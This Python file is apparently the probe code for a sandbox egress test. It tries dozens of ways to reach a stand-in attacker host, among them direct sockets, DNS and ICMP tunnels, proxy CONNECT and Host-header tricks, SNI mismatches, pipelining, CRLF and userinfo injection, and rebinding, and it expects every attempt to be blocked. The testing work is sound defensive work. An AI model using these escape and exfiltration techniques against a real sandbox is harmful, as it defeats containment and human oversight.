"""Ways out of a sandbox, tried from a sandbox cell by tests/test_egress.py (this file is the cell's
code, after a line ``RIG = {...}`` with the rig's addresses). Each probe tries to reach the rig's
attacker (or a host no allowlist names) by another road: it must fail, at once, and the attacker
must record nothing. The last probes are controls that must succeed. Prints one JSON line:
``{name: [outcome, seconds]}``, outcome ``"blocked: ..."`` or ``"reached: ..."``.

No probe sends a packet to an address the test did not create: the direct ones go from a sandbox
with no network at all (only ``lo``), and the rest are refused by the proxy's decision before it
resolves or connects.
"""

import json
import os
import socket
import ssl
import struct
import time
import urllib.request

PROXY = ("127.0.0.1", 3128)
A = RIG["attacker"]  # noqa: F821 - set by the test before this source
results = {}


def probe(name, fn):
    started = time.monotonic()
    try:
        outcome = "reached: " + repr(fn())[:120]
    except Exception as exc:  # noqa: BLE001 - any failure is a block
        outcome = f"blocked: {type(exc).__name__}: {exc}"[:160]
    results[name] = [outcome, round(time.monotonic() - started, 3)]


def tcp(host, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(5)
        sock.connect((host, port))
        sock.sendall(b"GET /leak HTTP/1.0\r\n\r\n")
        return sock.recv(100)


def udp(host, port, payload=b"leak"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(3)
        sock.sendto(payload, (host, port))
        return sock.recv(100)


def dns_query(name):
    header = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    return header + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)


def via_proxy(request, then=None, tls_name=None):
    """Send ``request`` to the proxy; then ``then`` in the tunnel, or a TLS ClientHello naming
    ``tls_name`` ("" for none). Returns what came back; a 4xx/5xx answer counts as blocked."""
    with socket.create_connection(PROXY, timeout=5) as sock:
        sock.sendall(request)
        answer = sock.recv(4096)
        if not answer.startswith(b"HTTP/1.1 200"):
            raise ConnectionRefusedError(answer.split(b"\r\n", 1)[0].decode())
        if tls_name is not None:
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            with context.wrap_socket(sock, server_hostname=tls_name or None) as tls:
                tls.sendall(b"GET /leak HTTP/1.1\r\nHost: attacker.test\r\n\r\n")
                return tls.recv(100)
        if then is not None:
            sock.sendall(then)
            reply = sock.recv(4096)
            if not reply or reply.split(b" ", 2)[1][:1] in (b"4", b"5"):
                raise ConnectionRefusedError((reply.split(b"\r\n", 1)[0] or b"closed").decode())
            return reply
        return answer


def pipelined(requests):
    """Two requests at once in a tunnel to the index: the second names the attacker."""
    with socket.create_connection(PROXY, timeout=3) as sock:
        sock.sendall(b"CONNECT index.test:8080 HTTP/1.1\r\n\r\n" + requests)
        data = b""
        try:
            while chunk := sock.recv(65536):
                data += chunk
        except socket.timeout:
            pass
    if b"leaked" in data:
        return data[-100:]
    raise ConnectionRefusedError(f"{data.count(b'HTTP/1.1 403')} refused in {len(data)} bytes")


def connect(target, **kwargs):
    return via_proxy(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode(), **kwargs)


def get(url, context=None, direct=False):
    handlers = [urllib.request.ProxyHandler({})] if direct else []
    if context is not None:
        handlers.append(urllib.request.HTTPSHandler(context=context))
    return urllib.request.build_opener(*handlers).open(url, timeout=5).read()


rig_ca = ssl.create_default_context(cafile="rig-ca.pem")
# -- without the proxy: the sandbox has no network at all ------------------------------------------
probe("tcp to the attacker's address", lambda: tcp(A, 80))
probe("tcp to the attacker on 443", lambda: tcp(A, 443))
probe("http ignoring the proxy variables", lambda: get(f"http://{A}/leak", direct=True))
probe("tcp to the engine's gateway", lambda: tcp(RIG["gateway"], 80))  # noqa: F821
probe("tcp to the rig's resolver", lambda: tcp(RIG["dns"], 53))  # noqa: F821
probe("udp to the attacker", lambda: udp(A, 123))
probe("quic to the attacker", lambda: udp(A, 443, b"\xc3\x00\x00\x00\x01" + os.urandom(40)))
probe("dns through the system resolver", lambda: socket.getaddrinfo("leak.attacker.test", 80))
probe("dns query to the attacker", lambda: udp(A, 53, dns_query("leak.attacker.test")))
probe("dns query to the rig's resolver", lambda: udp(RIG["dns"], 53, dns_query("leak.attacker.test")))  # noqa: F821
probe("icmp ping socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).sendto(
    b"\x08\x00\xf7\xff\x00\x00\x00\x00", (A, 0)))
probe("raw socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
probe("ipv6 to the attacker (v4-mapped)", lambda: tcp(f"::ffff:{A}", 80, socket.AF_INET6))
# -- through the proxy ------------------------------------------------------------------------------
probe("proxy: absolute URI to a denied name", lambda: get("http://attacker.test/leak"))
probe("proxy: absolute URI to the attacker's address", lambda: get(f"http://{A}/leak"))
probe("proxy: HTTP/1.0 without Host", lambda: via_proxy(b"GET http://attacker.test/leak HTTP/1.0\r\n\r\n"))
probe("proxy: CONNECT a denied name", lambda: connect("attacker.test:443", tls_name="attacker.test"))
probe("proxy: CONNECT the attacker's address", lambda: connect(f"{A}:443", tls_name=""))
probe("proxy: CONNECT an allowed name on another port", lambda: connect("api.test:8443", tls_name="api.test"))
probe("proxy: TLS server name differs from CONNECT", lambda: connect("api.test:443", tls_name="attacker.test"))
probe("proxy: TLS without a server name", lambda: connect("api.test:443", tls_name=""))
probe("proxy: Host header differs (absolute URI)", lambda: via_proxy(
    b"GET http://index.test:8080/leak HTTP/1.1\r\nHost: attacker.test\r\n\r\n", then=None))
probe("proxy: Host header differs (in a tunnel)", lambda: connect(
    "index.test:8080", then=b"GET /leak HTTP/1.1\r\nHost: attacker.test\r\n\r\n"))
probe("proxy: second request in a tunnel names another host", lambda: pipelined(
    b"GET /simple/ HTTP/1.1\r\nHost: index.test:8080\r\n\r\nGET /leak HTTP/1.1\r\nHost: attacker.test\r\n\r\n"))
probe("proxy: absolute URI inside a tunnel", lambda: connect(
    "index.test:8080", then=b"GET http://attacker.test/leak HTTP/1.1\r\nHost: attacker.test\r\n\r\n"))
probe("proxy: chaining, CONNECT inside a tunnel", lambda: connect(
    "index.test:8080", then=b"CONNECT attacker.test:80 HTTP/1.1\r\nHost: attacker.test:80\r\n\r\n"))
probe("proxy: another protocol in a tunnel", lambda: connect("index.test:8080", then=b"SSH-2.0-OpenSSH_9.2\r\n"))
probe("proxy: the engine's gateway", lambda: connect(f"{RIG['gateway']}:80"))  # noqa: F821
probe("proxy: a name for the gateway", lambda: connect("gateway.test:80"))
probe("proxy: its own listener", lambda: connect("127.0.0.1:3129"))
probe("proxy: localhost", lambda: get("http://localhost:3129/"))
probe("proxy: its own outbound address", lambda: connect(f"{RIG['proxy']}:3129"))  # noqa: F821
probe("proxy: host.docker.internal", lambda: get("http://host.docker.internal/leak"))
probe("proxy: IPv6 loopback", lambda: connect("[::1]:80"))
probe("proxy: IPv4-mapped IPv6 attacker", lambda: connect(f"[::ffff:{A}]:80"))
probe("proxy: redirect from an allowed host to a denied one", lambda: get(
    "https://api.test/redirect?to=http://attacker.test/stolen", rig_ca))
probe("proxy: DNS over HTTPS to the attacker", lambda: get("https://attacker.test/dns-query?dns=AAABAAABAAAAAAAA", rig_ca))
probe("proxy: DNS over HTTPS to the resolver's address", lambda: connect(f"{RIG['dns']}:443", tls_name=""))  # noqa: F821
probe("proxy: DNS rebinding (an allowed name to a private address)", lambda: get("http://rebind.test/leak"))
probe("proxy: userinfo trick", lambda: get("http://index.test:8080@attacker.test/leak"))
probe("proxy: suffix trick", lambda: get("http://index.test.attacker.test/leak"))


def answer_of(request, then=None):
    """What the proxy answers ``request`` (sent to it, or ``then`` in the tunnel it opened): a
    refusal raises with the answer's text, so the outcome shows whose refusal it was."""
    with socket.create_connection(PROXY, timeout=5) as sock:
        sock.sendall(request)
        answer = sock.recv(4096)
        if then is not None and answer.startswith(b"HTTP/1.1 200"):
            sock.sendall(then)
            answer = sock.recv(4096)
    if answer.startswith(b"HTTP/1.1 200"):
        return answer
    raise ConnectionRefusedError(repr(answer.split(b"\r\n\r\n", 1)[-1][:100]) if answer else "closed")


def tls_to_the_proxy():
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection(PROXY, timeout=5) as sock, context.wrap_socket(sock) as tls:
        return tls.recv(100)


def server_first(target):
    """A tunnel to an allowed host whose server speaks first (the rig's banner): the client waits."""
    with socket.create_connection(PROXY, timeout=5) as sock:
        sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        if not sock.recv(4096).startswith(b"HTTP/1.1 200"):
            raise ConnectionRefusedError("CONNECT refused")
        if banner := sock.recv(100):
            return banner
        raise ConnectionRefusedError("closed")


def after_a_refusal(request):
    """``request`` on a connection the proxy kept alive after refusing a first one (a ``403``)."""
    with socket.create_connection(PROXY, timeout=5) as sock:
        sock.sendall(b"GET http://attacker.test/leak HTTP/1.1\r\nHost: attacker.test\r\n\r\n")
        if not sock.recv(4096).startswith(b"HTTP/1.1 403"):
            raise RuntimeError("the first request was not refused")
        sock.sendall(request)
        answer = sock.recv(4096)
    if answer.startswith(b"HTTP/1.1 200"):
        return answer
    raise ConnectionRefusedError(repr(answer.split(b"\r\n\r\n", 1)[-1][:100]) if answer else "closed")


probe("proxy: a SOCKS5 greeting", lambda: answer_of(b"\x05\x01\x00"))
probe("proxy: a SOCKS4 request", lambda: answer_of(b"\x04\x01\x00\x50" + socket.inet_aton(A) + b"x\x00"))
probe("proxy: HTTP/0.9", lambda: answer_of(b"GET http://index.test:8080/simple/\r\n"))
probe("proxy: TLS to the proxy itself", tls_to_the_proxy)
probe("proxy: binary bytes in a tunnel", lambda: answer_of(
    b"CONNECT plain.test:80 HTTP/1.1\r\nHost: plain.test:80\r\n\r\n", then=b"\0" * 64))
probe("proxy: a tunnel whose server speaks first", lambda: server_first("api.test:2525"))
probe("proxy: userinfo in a CONNECT target", lambda: answer_of(
    b"CONNECT index.test:8080@attacker.test:80 HTTP/1.1\r\nHost: attacker.test:80\r\n\r\n"))
probe("proxy: a percent-encoded CONNECT target", lambda: answer_of(
    b"CONNECT %61ttacker.test:80 HTTP/1.1\r\nHost: attacker.test:80\r\n\r\n"))
probe("proxy: CRLF in a CONNECT target", lambda: answer_of(
    b"CONNECT index.test:8080\r\nX: attacker.test:80 HTTP/1.1\r\n\r\n"))
probe("proxy: userinfo in a second request on one connection", lambda: after_a_refusal(
    b"GET http://index.test:8080@attacker.test/leak HTTP/1.1\r\nHost: attacker.test\r\n\r\n"))


def _unix(request):
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(5)
        sock.connect("/run/sandbox-kernel-egress/proxy.sock")
        sock.sendall(request.encode())
        answer = sock.recv(200)
        if not answer.startswith(b"HTTP/1.1 200"):
            raise ConnectionRefusedError(answer.split(b"\r\n", 1)[0].decode())
        return answer


probe("proxy: the socket itself, denied name", lambda: _unix("CONNECT attacker.test:80 HTTP/1.1\r\n\r\n"))
# -- controls: what is allowed works ----------------------------------------------------------------
probe("control: the index by name", lambda: get("http://index.test:8080/simple/")[:20])
probe("control: the index, upper case with a trailing dot", lambda: get("http://INDEX.TEST.:8080/simple/")[:20])
probe("control: the API over TLS", lambda: get("https://api.test/hello", rig_ca)[:40])
print(json.dumps(results))
